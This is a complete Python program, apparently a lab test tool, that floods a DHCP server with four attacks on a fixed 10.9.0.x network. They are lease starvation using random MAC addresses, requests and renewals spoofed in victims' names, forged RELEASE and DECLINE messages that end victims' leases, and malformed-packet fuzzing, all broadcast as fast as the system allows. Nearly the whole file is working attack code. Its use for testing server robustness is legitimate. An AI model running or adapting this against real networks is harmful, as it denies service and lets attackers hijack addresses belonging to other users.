"""Floods a DHCP server from this machine: `python attacker.py ATTACK INTERFACE COUNT VICTIMS`; a program of its own.

VICTIMS is JSON: [[MAC as hex, address], ...].  The attacker's own address is the third of ATTACKS' arguments.
"""

from __future__ import annotations

import json
import random
import socket
import sys
from collections.abc import Callable, Iterator

SERVER, OWN = "10.9.0.1", "10.9.0.200"
BROADCAST = "255.255.255.255"
HEAD = bytes.fromhex("01010600")
COOKIE = b"\x63\x82\x53\x63"
DISCOVER, REQUEST, DECLINE, RELEASE = 1, 3, 4, 7

Packet = tuple[bytes, str, str]  # octets, from, to
Victims = list[tuple[bytes, str]]
Chance = random.Random


def octets(address: str) -> bytes:
    """Write an address."""
    return socket.inet_aton(address)


def message(
    kind: int, mac: bytes, chance: Chance, *, ciaddr: str = "0.0.0.0", giaddr: str = "0.0.0.0", options: bytes = b""
) -> bytes:
    """Write a message as quickly as possible."""
    head = HEAD + chance.randbytes(4) + b"\0\0\x80\0" + octets(ciaddr) + bytes(8) + octets(giaddr)
    return (head + mac.ljust(208, b"\0") + COOKIE + bytes((53, 1, kind)) + options + b"\xff").ljust(300, b"\0")


def starve(_: Victims, chance: Chance) -> Iterator[Packet]:
    """Ask in a new name each time."""
    while True:
        yield message(DISCOVER, b"\x02\x66" + chance.randbytes(4), chance), "", BROADCAST


def impersonate(victims: Victims, chance: Chance) -> Iterator[Packet]:
    """Ask, choose another server and renew in the victims' names."""
    while True:
        for mac, address in victims:
            yield message(DISCOVER, mac, chance), "", BROADCAST
            elsewhere = b"\x32\4" + octets(address) + b"\x36\4" + octets("10.9.0.66")
            yield message(REQUEST, mac, chance, options=elsewhere), "", BROADCAST
            yield message(REQUEST, mac, chance, ciaddr=address), "", BROADCAST
            yield message(REQUEST, b"\x02\x66" + chance.randbytes(4), chance, ciaddr=address), "", BROADCAST


def end_their_leases(victims: Victims, chance: Chance) -> Iterator[Packet]:
    """Give up the victims' addresses: with a wrong identity, a wrong server, or from elsewhere."""
    ours, other = b"\x36\4" + octets(SERVER), b"\x36\4" + octets("10.9.0.66")
    while True:
        for mac, address in victims:
            asked = b"\x32\4" + octets(address)
            stranger = b"\x02\x66" + chance.randbytes(4)
            yield message(RELEASE, stranger, chance, ciaddr=address, options=ours), OWN, SERVER
            yield message(RELEASE, mac, chance, ciaddr=address, options=ours), OWN, SERVER
            yield message(RELEASE, mac, chance, ciaddr=address), OWN, SERVER
            yield message(RELEASE, mac, chance, ciaddr=address, options=ours), "", BROADCAST
            yield message(RELEASE, mac, chance, ciaddr=address, options=other), "", BROADCAST
            yield message(RELEASE, mac, chance, ciaddr=address, giaddr="10.77.0.1", options=ours), OWN, SERVER
            yield message(DECLINE, stranger, chance, options=asked + ours), "", BROADCAST
            yield message(DECLINE, mac, chance, options=asked + other), "", BROADCAST
            yield message(DECLINE, mac, chance, options=asked + ours), OWN, SERVER
            yield message(DECLINE, mac, chance, giaddr="10.77.0.1", options=asked + ours), OWN, SERVER


def garble(victims: Victims, chance: Chance) -> Iterator[Packet]:
    """Send what is no message, or nearly one."""
    while True:
        whole = message(chance.randrange(12), chance.choice(victims)[0], chance, options=chance.randbytes(60))
        for data in (
            whole[: chance.randrange(300)],
            chance.randbytes(chance.randrange(1400)),
            whole[:240] + whole[241:],
        ):
            yield data, "", BROADCAST


ATTACKS: dict[str, Callable[[Victims, Chance], Iterator[Packet]]] = {
    "starve": starve,
    "impersonate": impersonate,
    "end-their-leases": end_their_leases,
    "garble": garble,
}


def main(attack: str, interface: str, count: str, victims: str) -> None:
    """Attack, as fast as the system takes it."""
    known = [(bytes.fromhex(mac), address) for mac, address in json.loads(victims)]
    opened: dict[str, socket.socket] = {}
    for source in ("", OWN):
        opened[source] = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        opened[source].setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        opened[source].setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
        if source:
            opened[source].bind((source, 0))
    chance = random.Random(7)
    packets = ATTACKS[attack](known, chance)
    for _ in range(int(count)):
        data, source, to = next(packets)
        opened[source].sendto(data, (to, 67))


if __name__ == "__main__":
    main(*sys.argv[1:])
